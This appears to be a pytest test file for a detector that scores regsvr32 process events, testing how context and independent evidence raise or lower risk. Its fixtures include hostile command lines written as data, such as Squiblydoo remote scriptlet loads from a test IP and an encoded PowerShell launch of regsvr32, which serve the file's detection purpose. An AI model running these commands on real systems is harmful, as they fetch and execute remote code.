"""The score model: independent evidence raises, context lowers, and the reasons say so."""
import pytest

from support.events import proc
from regsvr32_detector import Detector, RULES_BY_ID
from regsvr32_detector.score import RAISE_FLOOR, RAISE_SHARE

pytestmark = pytest.mark.pure

DETECTOR = Detector()
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"


def notes(v, kind):
    return [r for r in v.reasons if r.startswith(kind + ":")]


def test_independent_evidence_raises_by_a_share_of_each_further_kind():
    v = DETECTOR.evaluate(proc("regsvr32 /s C:\\Users\\Public\\a.dll", parent=OFFICE))
    office, public = RULES_BY_ID["R32-015"].risk, RULES_BY_ID["R32-007"].risk
    assert {"R32-007", "R32-015"} <= set(v.rules)
    assert v.score == office + int(round(public * RAISE_SHARE))
    assert notes(v, "raised") == ["raised: %d -> %d, independent evidence from R32-007 besides R32-015"
                                  % (office, v.score)]


def test_findings_of_one_kind_of_evidence_do_not_add_up():
    # two modules, two location findings: where the modules are is one fact
    v = DETECTOR.evaluate(proc("regsvr32 /s C:\\Users\\Public\\a.dll C:\\ProgramData\\Vendor\\b.dll"))
    assert {"R32-007", "R32-040"} <= set(v.rules)
    assert v.score == RULES_BY_ID["R32-007"].risk and not notes(v, "raised")


def test_informational_findings_raise_nothing():
    v = DETECTOR.evaluate(proc("regsvr32 /s C:\\Users\\Public\\a.dll"))
    assert RULES_BY_ID["R32-048"].risk < RAISE_FLOOR and "R32-048" in v.rules
    assert v.score == RULES_BY_ID["R32-007"].risk


def test_an_installer_registering_its_own_per_user_module_is_lowered_and_says_so():
    v = DETECTOR.evaluate(proc("regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\ext.dll",
                               parent="C:\\Windows\\System32\\msiexec.exe"))
    assert v.score < 20
    (note,) = notes(v, "lowered")
    assert "installer" in note and "R32-040 20->5" in note


def test_a_script_in_the_module_tree_is_lowered_but_a_script_in_temp_is_not():
    own = proc("regsvr32 x64\\Release\\Ext.dll", CurrentDirectory="C:\\Users\\bob\\source\\repos\\Ext\\",
               ParentCommandLine='cmd /c "C:\\Users\\bob\\source\\repos\\Ext\\register.bat"')
    temp = proc("regsvr32 x.dll", CurrentDirectory="C:\\Users\\bob\\AppData\\Local\\Temp\\q\\",
                ParentCommandLine='cmd /c "C:\\Users\\bob\\AppData\\Local\\Temp\\q\\run.bat"')
    assert DETECTOR.evaluate(own).score < 20 and notes(DETECTOR.evaluate(own), "lowered")
    assert DETECTOR.evaluate(temp).score >= 60 and not notes(DETECTOR.evaluate(temp), "lowered")


def test_the_module_path_handed_on_by_the_parent_is_not_its_own_tree():
    # cmd /c regsvr32 C:\X\...: the parent names the module, which says nothing about who owns it
    v = DETECTOR.evaluate(proc("regsvr32.exe C:\\AtomicRedTeam\\atomics\\bin\\x.dll",
                               CurrentDirectory="C:\\AtomicRedTeam",
                               ParentCommandLine="cmd.exe /c regsvr32.exe C:\\AtomicRedTeam\\atomics\\bin\\x.dll"))
    assert not notes(v, "lowered") and "R32-039" in v.rules


def test_deployment_of_program_files_modules_through_powershell_is_lowered():
    v = DETECTOR.evaluate(proc('regsvr32 /s "C:\\Program Files\\Vendor\\x.dll"', parent=PS))
    assert "R32-042" in v.rules and v.score < 20 and notes(v, "lowered")


def test_context_never_lowers_a_remote_scriptlet():
    v = DETECTOR.evaluate(proc("regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
                               parent="C:\\Windows\\System32\\msiexec.exe"))
    assert v.score >= 90 and not notes(v, "lowered")


def test_scores_stay_within_0_and_100():
    v = DETECTOR.evaluate(proc("regsvr32 /s /u /i:http://0x0a010203/a.sct C:\\Users\\Public\\x.jpg",
                               parent=OFFICE))
    assert v.score == 100


SYS = "C:\\Windows\\System32\\"
# The classes of noise and misses named in the precision issue, one line each (written for this
# test), with the band they must stay below or reach. The corpora measure the rates.
QUIET = [
    ("active setup /i:/UserInstall with %SystemRoot%",
     proc("regsvr32.exe /s /n /i:/UserInstall %SystemRoot%\\system32\\themeui.dll", parent="C:\\Windows\\explorer.exe")),
    ("vendor module taking a folder through /i:",
     proc('regsvr32 /s /n /i:"C:\\ProgramData\\Vendor" "C:\\Program Files\\Vendor\\x.dll"', parent=SYS + "msiexec.exe")),
    ("unquoted Program Files path",
     proc("regsvr32.exe /u C:\\Program Files (x86)\\Vendor\\player.ocx", parent="C:\\Users\\bob\\AppData\\Local\\Temp\\_iu38F2A.tmp")),
    ("per-user install by its own updater",
     proc('regsvr32 /s "C:\\Users\\bob\\AppData\\Local\\Vendor\\2.1\\ext64.dll"', parent="C:\\Users\\bob\\AppData\\Local\\Vendor\\Update.exe")),
    ("developer build output", proc("regsvr32 x64\\Release\\Ext.dll", CurrentDirectory="C:\\Users\\bob\\source\\repos\\Ext\\")),
    ("PowerShell deployment of a Program Files module", proc('regsvr32 /s "C:\\Program Files\\Vendor\\x.dll"', parent=PS)),
    ("Java desktop application", proc('regsvr32 /s "C:\\Program Files\\Vendor\\x.dll"', parent="C:\\Program Files\\Java\\bin\\javaw.exe")),
    ("IE repair /s /i on a system module", proc("regsvr32 /s /i shdocvw.dll")),
    ("line-of-business software on D:", proc('regsvr32 /s "D:\\Apps\\LOB\\bin\\lob.ocx"')),
    ("a control on the Desktop, registered by hand", proc("regsvr32 C:\\Users\\bob\\Desktop\\MSCOMCTL.OCX")),
]
LOUD = [
    ("a DLL in Users\\Public", proc("regsvr32 /s C:\\Users\\Public\\x.dll")),
    ("Emotet's random System32 folder", proc('regsvr32.exe /s "C:\\Windows\\SysWOW64\\Dczxlq\\pmcm.tlv"')),
    ("a bare module at the root of a mounted ISO", proc("regsvr32.exe  data.dll", CurrentDirectory="E:\\")),
    ("Squiblydoo on a renamed image without OriginalFileName",
     {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\j.exe", "CommandLine": "j.exe /s /u /i:http://203.0.113.9/a.sct scrobj.dll"}),
    ("regsvr32 hidden in encoded PowerShell",
     {"EventCode": "1", "Image": PS, "CommandLine": "powershell -enc cgBlAGcAcwB2AHIAMwAyACAALwBzACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXAB4AC4AZABsAGwA"}),
    ("/n /i:<code word> from a script host",
     proc('regsvr32 -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\FontPack\\main.dll', parent="C:\\Windows\\System32\\wscript.exe")),
]


@pytest.mark.parametrize("record", [r for _, r in QUIET], ids=[n for n, _ in QUIET])
def test_noise_classes_stay_below_medium(record):
    v = DETECTOR.evaluate(record)
    assert v.score < 40 or "Desktop" in str(v.reasons) and v.score < 60, v.reasons


@pytest.mark.parametrize("record", [r for _, r in LOUD], ids=[n for n, _ in LOUD])
def test_missed_classes_reach_high(record):
    v = DETECTOR.evaluate(record)
    assert v.score >= 60, v.reasons
